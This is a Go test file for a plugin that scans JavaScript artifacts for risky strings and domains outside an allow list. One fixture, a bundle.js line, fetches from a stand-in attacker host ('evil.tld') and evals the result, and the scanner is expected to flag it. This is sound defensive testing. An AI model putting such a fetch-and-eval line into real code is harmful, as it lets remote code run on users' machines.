package checker_test

import (
	"errors"
	"testing"

	"github.com/CompassSecurity/codechecker/pkg/checker"
	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

func TestHostLifecycle(t *testing.T) {
	plugin, err := checker.NewFromJSON(`{"riskyStringCheck":["eval\\("],"allowedDomainResources":["^cdn\\.example\\.com$"]}`)
	require.NoError(t, err)

	plugin.OnArtifactAvailable("bundle.js", "fetch('https://evil.tld/x'); eval(x)")
	plugin.OnArtifactAvailable("safe.js", "fetch('https://cdn.example.com/lib.js')")

	err = plugin.OnAllArtifactsProcessed()

	var complianceErr *checker.ComplianceError
	require.True(t, errors.As(err, &complianceErr))
	assert.Equal(t, "bundle.js has unallowed domain resource: evil.tld\nbundle.js has risky string: eval\\(", err.Error())
	assert.ErrorIs(t, plugin.OnAllArtifactsProcessed(), checker.ErrAlreadyFinalized)
}

func TestHostOptions(t *testing.T) {
	opts, unknown, err := checker.ParseOptions(`{"riskyStringCheck":["debugger"],"modularImports":[]}`)
	require.NoError(t, err)
	assert.Equal(t, []string{"modularImports"}, unknown)

	plugin := checker.New(opts)
	plugin.OnArtifactAvailable("app.js", "let a = 1")
	assert.NoError(t, plugin.OnAllArtifactsProcessed())

	assert.Equal(t, checker.DefaultOptions().DomainMode, opts.DomainMode)

	_, err = checker.NewFromJSON(`{"riskyStringCheck":1}`)
	assert.ErrorIs(t, err, checker.ErrInvalidOptions)
}
